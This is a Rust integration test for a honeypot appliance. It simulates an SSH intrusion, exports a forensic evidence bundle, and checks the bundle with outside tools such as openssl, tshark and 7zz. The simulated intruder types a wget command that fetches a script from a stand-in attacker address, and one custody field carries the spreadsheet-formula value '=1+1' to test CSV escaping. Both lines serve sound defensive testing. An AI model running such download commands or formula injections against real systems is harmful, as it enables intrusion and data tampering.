//! Evidence as others receive it: a bundle is opened and checked by programs that we did not write.

use std::fs;
use std::path::Path;
use std::process::Command;
use std::time::Duration;

use honeyward::store::Reader;
use serde_json::Value;

use crate::honeynet::{Honeynet, client, text, within};
use crate::shell::{sftp, ssh};

/// An intruder who logs in, looks about and leaves a tool behind; gives his incident and his sessions.
fn intrusion(net: &Honeynet, tool: &[u8]) -> (Value, Vec<Value>) {
    let typed = net.scratch("typed");
    fs::write(&typed, "id\nwget http://198.51.100.7/x.sh\nexit\n").unwrap();
    let said = text(&ssh(net, "his", &["-tt"], &[], &typed));
    assert!(said.contains("uid="), "{said}");
    let (file, batch) = (net.scratch("tool.bin"), net.scratch("batch"));
    fs::write(&file, tool).unwrap();
    fs::write(&batch, format!("put {} /tmp/tool.bin\n", file.display())).unwrap();
    let put = sftp(net, "his", &batch);
    assert!(put.status.success(), "{}", text(&put));
    let sessions = net.sessions(2, |row| row["service"] == "ssh" && !row["closed"].is_null());
    let incident = within(Duration::from_secs(10), "an alert", || {
        let alerts = net.json(&["alerts", "--json"]);
        alerts.into_iter().find(|alert| alert["severity"] == "high")
    });
    // The last packets are on the disk.
    std::thread::sleep(Duration::from_millis(1200));
    (incident, sessions.into_iter().map(|row| row["id"].clone()).collect())
}

fn run(folder: &Path, program: &str, arguments: &[&str]) -> String {
    let output = Command::new(program)
        .args(arguments)
        .current_dir(folder)
        .env("LC_ALL", "C.UTF-8")
        .output()
        .unwrap_or_else(|e| panic!("{program}: {e}"));
    assert!(output.status.success(), "{program} {arguments:?}: {}", text(&output));
    String::from_utf8(output.stdout).unwrap()
}

fn json(path: &Path) -> Value {
    serde_json::from_slice(&fs::read(path).unwrap()).unwrap_or_else(|e| panic!("{}: {e}", path.display()))
}

#[test]
fn an_incident_is_taken_out_and_checked_without_the_appliance() {
    let net = Honeynet::with("[evidence]\nsm3 = true\n");
    let tool = b"\x7fELF and what an intruder wrote".repeat(50);
    let (incident, sessions) = intrusion(&net, &tool);
    let id = incident["id"].as_str().unwrap();
    let packed = net.scratch("case.zip");
    let reason = "handed to the police, =1+1";
    let arguments = ["export", id, "--to", packed.to_str().unwrap(), "--by", "李工", "--reason", reason];
    let told = net.honeyward(&arguments);
    assert!(told.status.success(), "{}", text(&told));
    assert!(!text(&told).contains("Not in it"), "capture needs root or CAP_NET_RAW: {}", text(&told));
    assert!(!net.honeyward(&arguments).status.success(), "evidence is never overwritten");

    let anchor = format!("{}:{}", incident["chain_sequence"], incident["chain_head"].as_str().unwrap());
    let good = net.honeyward(&["verify", packed.to_str().unwrap(), "--anchor", &anchor, "--json"]);
    assert!(good.status.success(), "{}", text(&good));
    let forged = format!("{}:{}", incident["chain_sequence"], "ab".repeat(32));
    let found = net.honeyward(&["verify", packed.to_str().unwrap(), "--anchor", &forged]);
    assert!(found.status.code() == Some(1) && text(&found).contains("rewritten"), "{}", text(&found));

    run(net.scratch(".").as_path(), "unzip", &["-q", "case.zip"]);
    let bag = net.scratch("case");
    for list in ["manifest-sha256.txt", "tagmanifest-sha256.txt"] {
        run(&bag, "sha256sum", &["--quiet", "--strict", "-c", list]);
    }
    for list in ["manifest-sha512.txt", "tagmanifest-sha512.txt"] {
        run(&bag, "sha512sum", &["--quiet", "--strict", "-c", list]);
    }
    let said = run(&bag, "python3", &["data/verify.py", ".", &anchor]);
    assert!(said.starts_with("good: "), "{said}");
    let signature = fs::read_to_string(bag.join("tagmanifest-sha256.txt.sig")).unwrap();
    fs::write(bag.join("sig.bin"), hex::decode(signature.trim()).unwrap()).unwrap();
    let verify = ["pkeyutl", "-verify", "-rawin", "-pubin", "-inkey", "data/chain/key.pem"];
    run(&bag, "openssl", &[&verify[..], &["-sigfile", "sig.bin", "-in", "tagmanifest-sha256.txt"]].concat());

    contents(&bag.join("data"), &tool, &sessions);
    let reader = Reader::open(&net.data().join("store/honeyward.db")).unwrap();
    let noted = within(Duration::from_secs(5), "the export in the chain", || {
        reader.records_after(0, "system/exported").unwrap().pop()
    });
    let noted = serde_json::to_value(noted).unwrap();
    assert_eq!(noted["event"]["event"]["by"], "李工");
    assert!(text(&told).contains(noted["event"]["event"]["digest"].as_str().unwrap()));
    let whole = net.json(&["verify", "--json", "--anchor", &anchor]);
    assert_eq!((&whole[0]["ok"], &whole[0]["key"]), (&Value::Bool(true), &key(&bag)));
    assert!(whole[0]["roots"].as_u64() > Some(0), "{whole:?}");
}

fn key(bag: &Path) -> Value {
    json(&bag.join("data/chain/roots.json"))[0]["key"].clone()
}

/// What is in the bundle, each read by a program of others.
fn contents(data: &Path, tool: &[u8], sessions: &[Value]) {
    run(data, "7zz", &["x", "-y", "-pinfected", "-oopened", "artefacts.zip"]);
    let opened: Vec<_> = fs::read_dir(data.join("opened")).unwrap().map(|e| e.unwrap().path()).collect();
    assert_eq!(opened.len(), 1);
    assert_eq!(fs::read(&opened[0]).unwrap(), tool);
    let wrong =
        Command::new("7zz").args(["t", "-y", "-pwrong"]).arg(data.join("artefacts.zip")).output().unwrap();
    assert!(!wrong.status.success(), "it is encrypted");

    for (language, title) in [("zh", "网络入侵取证报告"), ("en", "Report on an intrusion")] {
        let report = run(data, "pdftotext", &["-layout", &format!("report.{language}.pdf"), "-"]);
        assert!(report.contains(title) && report.contains("198.51.100.7"), "{report}");
        let page = fs::read_to_string(data.join(format!("report.{language}.html"))).unwrap();
        assert!(page.contains(title) && page.contains("李工"));
    }
    let mut told = 0;
    for session in sessions.iter().map(|session| session.as_str().unwrap()) {
        let packets = data.join(format!("pcap/{session}.pcapng"));
        let read = client("tshark", "tshark", &["-n", "-r", packets.to_str().unwrap(), "-Y", "ssh"]);
        assert!(!read.stdout.is_empty(), "{}", text(&read));
        // Who was refused at the door said nothing in plain text.
        let transcript = fs::metadata(data.join("sessions").join(session).join("transcript.txt"));
        told += usize::from(transcript.is_ok_and(|file| file.len() > 100));
    }
    assert!(told > 0, "a transcript");
    let casts = run(data, "sh", &["-c", "cat sessions/*/terminal-1.cast"]);
    assert!(casts.contains("uid="), "{casts}");

    let stix = json(&data.join("iocs.stix.json"));
    let kinds = |kind: &str| stix["objects"].as_array().unwrap().iter().filter(|o| o["type"] == kind).count();
    assert!(
        kinds("indicator") >= 3 && kinds("file") == 1 && kinds("url") == 1 && kinds("attack-pattern") > 0
    );
    let misp = json(&data.join("iocs.misp.json"));
    let url = "http://198.51.100.7/x.sh";
    assert!(misp["Event"]["Attribute"].as_array().unwrap().iter().any(|a| a["value"] == url));
    let list = fs::read_to_string(data.join("电子数据清单.csv")).unwrap();
    assert!(list.starts_with('\u{feff}') && list.contains("data/artefacts.zip"), "{list}");
    let custody = fs::read_to_string(data.join("custody.csv")).unwrap();
    assert!(custody.contains("李工") && custody.contains("\"handed to the police, =1+1\""), "{custody}");
    assert!(fs::read_to_string(data.join("timeline.csv")).unwrap().contains("$ id"));
}

/// What `tshark` finds in a session's packets when its port is read as this protocol.
fn dissected(net: &Honeynet, session: &Value, decode: &[&str], filter: &str, field: &str) -> String {
    let id = session["id"].as_str().unwrap();
    let cut = net.scratch(&format!("{id}.pcapng"));
    let output = net.honeyward(&["pcap", id, "-o", cut.to_str().unwrap()]);
    assert!(output.status.success(), "capture needs root or CAP_NET_RAW: {}", text(&output));
    let port = &session["target_port"];
    let decode: Vec<String> = decode.iter().map(|rule| rule.replace("PORT", &port.to_string())).collect();
    let mut arguments = vec!["-n", "-r", cut.to_str().unwrap(), "-Y", filter, "-T", "fields", "-e", field];
    decode.iter().for_each(|rule| arguments.extend(["-d", rule]));
    text(&client("tshark", "tshark", &arguments))
}

/// The plain text of a session over TLS, as `tshark` puts it together from the packets.
fn followed(net: &Honeynet, session: &Value) -> String {
    let id = session["id"].as_str().unwrap();
    let cut = net.scratch(&format!("{id}.pcapng"));
    let output = net.honeyward(&["pcap", id, "-o", cut.to_str().unwrap()]);
    assert!(output.status.success(), "capture needs root or CAP_NET_RAW: {}", text(&output));
    let decode = format!("tcp.port=={},tls", session["target_port"]);
    let arguments = ["-n", "-q", "-r", cut.to_str().unwrap(), "-d", &decode, "-z", "follow,tls,ascii,0"];
    text(&client("tshark", "tshark", &arguments))
}

#[test]
fn packets_of_tls_are_read_in_plain_text() {
    let net = Honeynet::of(&[("his", 11), ("vna", 15), ("cdr", 25)], "");
    let https = net.address("his", "https");
    for version in ["--tls-max=1.2", "--tlsv1.3"] {
        let version: Vec<&str> = version.split('=').collect();
        let url = format!("https://{https}/his/login");
        let got = client("curl", "curl", &[&version[..], &["-sk", "-o", "/dev/null", &url]].concat());
        assert!(got.status.success(), "{}", text(&got));
    }
    let dicom = net.addresses("vna", "dicom").into_iter().find(|a| a.port() % 10_000 == 2762).unwrap();
    let (ip, port) = (dicom.ip().to_string(), dicom.port().to_string());
    let echo =
        client("echoscu", "dcmtk", &["+tla", "-ic", "-aet", "SECRETLY", "-aec", "DCM4CHEE", &ip, &port]);
    assert!(echo.status.success(), "{}", text(&echo));
    let sql = net.address("cdr", "postgres");
    let asked = format!("host={} port={} user=whoever dbname=postgres sslmode=require", sql.ip(), sql.port());
    client("psql", "postgresql-client", &["-w", &asked, "-c", "select 1"]);

    let ended =
        |service: &'static str| move |row: &Value| row["service"] == service && !row["closed"].is_null();
    let web = net.sessions(2, ended("https"));
    let images = net.sessions(1, ended("dicom"));
    let database = net.sessions(1, ended("postgres"));
    std::thread::sleep(Duration::from_millis(1200));
    let web_rules = ["tcp.port==PORT,tls", "tls.port==PORT,http"];
    for session in &web {
        let uri = dissected(&net, session, &web_rules, "http.request", "http.request.uri");
        assert!(uri.contains("/his/login"), "{uri}");
    }
    let association = followed(&net, &images[0]);
    assert!(association.contains("SECRETLY"), "{association}");
    let login = dissected(&net, &database[0], &["tcp.port==PORT,pgsql"], "pgsql", "pgsql.parameter_value");
    assert!(login.contains("whoever"), "{login}");
}
